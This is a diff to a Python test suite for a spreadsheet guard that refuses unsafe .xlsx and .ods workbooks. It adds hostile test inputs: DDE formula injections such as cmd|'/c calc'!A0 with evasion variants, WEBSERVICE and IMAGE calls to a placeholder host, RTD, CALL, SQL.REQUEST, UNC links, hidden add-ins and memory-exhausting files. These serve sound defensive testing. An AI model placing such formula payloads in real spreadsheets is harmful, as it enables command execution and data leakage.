@@ -7,13 +7,17 @@ from io import BytesIO
 from typing import TYPE_CHECKING
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from packages import BOOK, MAIN, RELATIONS, SHEET, TEXTS, TYPES, cell, ods, packed, part, row, sheet, xlsx, xlsx_parts
 
 from mvi_standard.document import Unreadable
 from mvi_standard.finding import Place
 from mvi_standard.workbook.book import Book
 from mvi_standard.workbook.guard import guarded
+from mvi_standard.workbook.guarding.formulas import asks_elsewhere
 from mvi_standard.workbook.guarding.limits import BookLimits
+from mvi_standard.workbook.guarding.problems import ADD_IN
 from mvi_standard.workbook.guarding.xlsx import SeenBook
 
 if TYPE_CHECKING:
@@ -24,6 +28,11 @@ LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!E
 LINK = '<Relationships xmlns="x"><Relationship Id="r" Type="x/{}" Target="{}" TargetMode="{}"/></Relationships>'
 BESIDE = "xl/worksheets/_rels/sheet1.xml.rels"
 SHEETS = "<sheet name='x' r:id='rId1'/>" * 51
+HIDDEN = '<col min="1" max="16384" hidden="1"/>'
+DOLLARS = (
+    '<table:table-cell office:value-type="currency" office:value="1" office:currency="USD" '
+    'table:number-columns-repeated="100"/>'
+)
 MILLION = "table:number-rows-repeated='1048576'"
 
 
@@ -87,6 +96,11 @@ DAMAGED = {
     "rows out of order": xlsx('<row r="2"/><row r="1"/>'),
     "a value outside a cell": xlsx("<v>1</v>"),
     "rows twice": xlsx(**{SHEET: sheet(f"{ONE}</sheetData><sheetData>")}),
+    "columns that are hidden again and again": xlsx(
+        **{SHEET: sheet(ONE).replace("<sheetData", f"<cols>{HIDDEN * 100}</cols><sheetData")}
+    ),
+    "a name among the texts": xlsx(ONE, **{TEXTS: part(TEXTS).replace("<si>", '<definedName name="x"/><si>', 1)}),
+    "a value in an extension": xlsx(f"{ONE}<extLst><v>1</v></extLst>"),
     "a merged block that is none": xlsx(ONE, '<mergeCells><mergeCell ref="A1:B"/></mergeCells>'),
     "XML that breaks off": xlsx(**{SHEET: sheet(ONE)[:-3]}),
     "an empty part": xlsx(**{SHEET: b""}),
@@ -139,6 +153,7 @@ TOO_LARGE = {
             attributes="table:number-rows-repeated='99999'",
         )
     ),
+    "ten million dollars": ods(row(DOLLARS, attributes="table:number-rows-repeated='5000'") * 20),
     "nine million blanks": ods(row(*[cell('<text:s text:c="999999"/>')] * 9)),
 }
 
@@ -154,21 +169,97 @@ def test_what_would_fill_the_memory_is_refused_before_it_does(content: bytes) ->
 
 
 FORMULA_XLSX = '<row r="1"><c r="A1" t="str"><f>{}</f><v>x</v></c></row>'
-ASKING_XLSX = ("cmd|'/c calc'!A0", "_xlfn.WEBSERVICE(&quot;https://x.example&quot;)")
-HARMLESS_XLSX = ("'a|'!A1+'b'!A1", "HYPERLINK(&quot;https://x.example&quot;)", "&quot;WEBSERVICE(&quot;&amp;A1", "A1/2")
+ASKING_BOTH = (
+    "cmd|'/c calc'!A0",
+    "_xlfn.WEBSERVICE(&quot;https://x.example&quot;)",
+    "1+webservice (&quot;https://x.example&quot;)",
+    "_xlfn.IMAGE(&quot;https://x.example/&quot;&amp;A1)",
+    "DDE(&quot;soffice&quot;;&quot;x.ods&quot;;&quot;A1&quot;)",
+    "RTD(&quot;x.y&quot;,,&quot;z&quot;)",
+    "CALL(&quot;x&quot;)",
+    "REGISTER.ID(&quot;x&quot;)",
+    "SQL.REQUEST(&quot;DSN=x&quot;)",
+    "'a&quot;b'!A1+DDE(&quot;x&quot;)+'a&quot;c'!A1",
+)
+ASKING_XLSX = (
+    r"'\\10.0.0.1\it''s\[a.xlsx]B''s'!A0",
+    *ASKING_BOTH,
+    "cmd|'/c ''calc'' x'!A0",
+    "cmd|calc!A0",
+    "cmd |'/c calc'!A0",
+    "cmd|\n'/c calc'!A0",
+    "'cmd'|'/c calc'!A0",
+    "'a&quot;b'!A1+cmd|'/c calc'!A0+'a&quot;c'!A1",
+    "&quot;'&quot;&amp;cmd|'/c calc'!A0&amp;&quot;'&quot;",
+    "[a']+cmd|'/c calc'!A0+[b']",
+    "T[&quot;]+cmd|calc!A0+T[&quot;]",
+    "'[1]Mijn blad'!A1+[x.xlsx]Blad1!A1",
+    r"'C:\map\[x.xlsx]Blad1'!A1",
+    "'https://x.example/[x.xlsx]Blad1'!A1",
+    "'https://x.example/x.xlsx'!Naam",
+)
+HARMLESS_XLSX = (
+    "'a|'!A1+'b'!A1",
+    "'a|b'!A1",
+    "'a|''!'!A1&amp;'!'",
+    "'a&quot;b'!A1&amp;'|'!A1",
+    "'Mijn blad'!A1",
+    "'it''s | x'!A1",
+    "&quot;a|b&quot;",
+    "&quot;a&quot;&quot;|&quot;&quot;b&quot;",
+    "IF(A1=&quot;x|'y'!&quot;,1,2)",
+    "HYPERLINK(&quot;https://x.example&quot;)",
+    "&quot;WEBSERVICE(&quot;&amp;A1",
+    "A1/2",
+    "Tabel1[[#This Row],[Kosten | baten]]*Tabel1[it''s '# &quot;|&quot;]",
+    "[0]!Naam+[1]Blad1!A1+'[1]Mijn blad'!A1",
+    "_xlfn.CALLS(1)+MYDDE(2)",
+)
 MASHUP = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
 FORMULA = '<table:table-cell table:formula="of:={}" office:value-type="float" office:value="1"/>'
 ASKING = (
-    "DDE(&quot;soffice&quot;;&quot;x.ods&quot;;&quot;A1&quot;)",
-    "1+webservice (&quot;https://x.example&quot;)",
+    *ASKING_BOTH,
+    "COM.MICROSOFT.WEBSERVICE(&quot;https://x.example&quot;)",
+    "[$'a&quot;b'.A1]+DDE(&quot;a&quot;)+[$'a&quot;c'.A1]",
+    "[file:///x.ods#Blad1.A1]",
     "['file:///x.ods'#$Blad1.A1]",
     "['x''s.ods'#$Blad1.A1]",
 )
 HARMLESS = (
     "SUM([.A1:.B2])/2",
     "$'#een'.A1+$'twee''s'.B1",
+    "[$'a|b'.A1]+[$'Prijs: euro/stuk'.A1]+[$'a:/b'.A1]",
+    "[$'a&quot;b'.A1]&amp;&quot;a&quot;&quot;|&quot;",
+    "SUM({1;2|3;4})",
     "HYPERLINK(&quot;https://x.example&quot;)&amp;&quot;'a'#DDE(&quot;",
 )
+CHECK = (
+    "<dataValidations><dataValidation><formula1>{}</formula1><formula2>{}</formula2></dataValidation></dataValidations>"
+)
+FORMATTED = "<conditionalFormatting><cfRule>{}</cfRule></conditionalFormatting>"
+AFTER_ROWS = {
+    "a check": CHECK.format("{}", 1),
+    "the end of a check": CHECK.format(1, "{}"),
+    "a format": FORMATTED.format("<formula>{}</formula>"),
+    "a scale": FORMATTED.format('<colorScale><cfvo type="formula" val="{}"/></colorScale>'),
+    "an extension": '<extLst><ext xmlns:xm="x"><xm:f>{}</xm:f><xm:sqref>A1</xm:sqref></ext></extLst>',
+}
+NAMES = '<definedNames><definedName name="x">{}</definedName></definedNames></workbook>'
+IN_PARTS = {
+    "a name": (BOOK, part(BOOK).replace("</workbook>", NAMES)),
+    "a chart": ("xl/charts/chart1.xml", "<c:x xmlns:c='x'><c:f>{}</c:f><c:v>Kosten | baten</c:v></c:x>"),
+    "a table": ("xl/tables/table1.xml", "<table><calculatedColumnFormula>{}</calculatedColumnFormula></table>"),
+}
+
+
+def around(where: str, formula: str) -> bytes:
+    """Return an .xlsx with a formula outside its cells."""
+    if where in AFTER_ROWS:
+        return xlsx(ONE, AFTER_ROWS[where].replace("{}", formula))
+    name, content = IN_PARTS[where]
+    return xlsx(ONE, **{name: content.replace("{}", formula)})
+
+
 UNWANTED = {
     "macros": xlsx(ONE, **{"xl/vbaProject.bin": b"x"}),
     "macros in other letters": xlsx(ONE, **{"XL/VBAPROJECT.BIN": b"x"}),
@@ -180,6 +271,7 @@ UNWANTED = {
     "a connection": xlsx(ONE, **{"xl/connections.xml": "<x/>"}),
     "macros in another folder": xlsx(ONE, **{"xl/anders/mijn_vbaProject.bin": b"x"}),
     "an add-in": xlsx(ONE, **{"xl/webextensions/taskpanes.xml": "<x/>"}),
+    "an add-in by relation": xlsx(ONE, **{BESIDE: LINK.format("webextensiontaskpanes", "../x.xml", "")}),
     "buttons of its own": xlsx(ONE, **{"customUI/customUI14.xml": "<x/>"}),
     "Power Query": xlsx(ONE, **{"customXml/item1.xml": MASHUP}),
     "Power Query as Excel writes it": xlsx(ONE, **{"customXml/item1.xml": MASHUP.encode("utf-16")}),
@@ -199,6 +291,7 @@ UNWANTED = {
         row("<table:table-cell><draw:frame><draw:object-ole/></draw:frame></table:table-cell>")
     ),
     **{f"{each} in an .xlsx": xlsx(FORMULA_XLSX.format(each)) for each in ASKING_XLSX},
+    **{f"{each} in {where}": around(where, each) for where in (*AFTER_ROWS, *IN_PARTS) for each in ASKING_XLSX[:2]},
     "a zip in an .ods": ods(row(cell("x")), **{"Pictures/x.png": packed({"x": "x"})}),
     **{f"{each} in an .ods": ods(row(FORMULA.format(each))) for each in ASKING},
     "a name for another file in an .ods": ods(
@@ -228,6 +321,79 @@ def test_a_formula_within_the_workbook_is_no_harm(formula: str) -> None:
 @pytest.mark.parametrize("formula", HARMLESS_XLSX)
 def test_so_is_one_within_an_xlsx(formula: str) -> None:
     assert guarded(xlsx(FORMULA_XLSX.format(formula)))
+
+
+@pytest.mark.parametrize("where", [*AFTER_ROWS, *IN_PARTS])
+@pytest.mark.parametrize("formula", HARMLESS_XLSX)
+def test_so_is_one_outside_the_cells(where: str, formula: str) -> None:
+    assert guarded(around(where, formula))
+
+
+SIGNS = st.text(st.sampled_from("ab|\"' !#=(){};:/\\[]"))
+
+
+@given(SIGNS, SIGNS, SIGNS)
+def test_a_text_or_a_name_neither_asks_nor_hides_what_does(text: str, name: str, column: str) -> None:
+    quoted = '"' + text.replace('"', '""') + '"'
+    sheet_of = "'" + "".join(each for each in name if each not in "[]/\\").replace("'", "''") + "'"
+    table = "T[" + "".join(f"'{each}" if each in "[]#'" else each for each in column) + "]"
+    harmless = f"{quoted}&{sheet_of}!A1&{table}"
+
+    assert not asks_elsewhere(harmless)
+    for asking in ("cmd|x!A0", "DDE(A1)", "'a|'!A1+cmd|'x'!A0"):
+        assert asks_elsewhere(f"{harmless}&{asking}&{harmless}")
+
+
+def test_a_formula_in_an_extension_is_not_one_of_the_last_cell() -> None:
+    seen = guarded(around("an extension", "Blad1!$A$1"))
+
+    assert isinstance(seen, SeenBook)
+    assert seen.sheets[0].part
+    assert seen.sheets[0].part.rows
+    assert not seen.sheets[0].part.rows.uncomputed
+
+
+@pytest.mark.parametrize(
+    ("content", "place"),
+    [
+        (xlsx(FORMULA_XLSX.format("cmd|x!A0").replace("A1", "B1")), Place(1, 2, sheet="Blad1")),
+        (ods(row(cell("x"), FORMULA.format("DDE(1)"))), Place(1, 2, sheet="Blad1")),
+    ],
+)
+def test_a_refused_formula_has_its_place(content: bytes, place: Place) -> None:
+    assert refusal(content).place == place
+
+
+@pytest.mark.parametrize("name", ["an add-in", "an add-in by relation"])
+def test_an_add_in_is_refused_with_what_to_do(name: str) -> None:
+    assert refusal(UNWANTED[name]).values == {"problem": ADD_IN}
+
+
+def test_hidden_columns_may_be_all_but_one() -> None:
+    columns = '<cols><col min="1" max="1"/><col min="2" max="16384" hidden="1"/></cols><sheetData'
+    seen = guarded(xlsx(**{SHEET: sheet(ONE).replace("<sheetData", columns)}))
+
+    assert isinstance(seen, SeenBook)
+    assert seen.sheets[0].part
+    assert seen.sheets[0].part.unseen == set(range(2, 16_385))
+
+
+DOLLAR_STYLE = (
+    '<numFmts><numFmt numFmtId="170" formatCode="[$USD] 0"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs>'
+)
+DOLLAR_ROW = '<row r="1"><c r="A1" s="0"><v>1</v></c><c r="B1" s="0"><v>1</v></c></row>'
+MARKED = {
+    "dollars": xlsx(DOLLAR_ROW, **{"xl/styles.xml": f"<styleSheet>{DOLLAR_STYLE}</styleSheet>"}),
+    "dollars in an .ods": ods(row(DOLLARS.replace("100", "1") + DOLLARS.replace("100", "1"))),
+    "merged cells": xlsx(ONE, '<mergeCells><mergeCell ref="A1:B1"/><mergeCell ref="A2:B2"/></mergeCells>'),
+    "errors and formulas": xlsx('<row r="1"><c r="A1" t="e"><v>#N/A</v></c><c r="B1"><f>A1</f></c></row>'),
+}
+
+
+@pytest.mark.parametrize("content", MARKED.values(), ids=MARKED)
+def test_marks_on_cells_are_counted_together(content: bytes) -> None:
+    assert guarded(content, BookLimits(marks=2))
+    assert refusal(content, BookLimits(marks=1)).code == "MVI-F021"
 
 
 def test_a_zip_in_a_binary_workbook_is_refused() -> None:
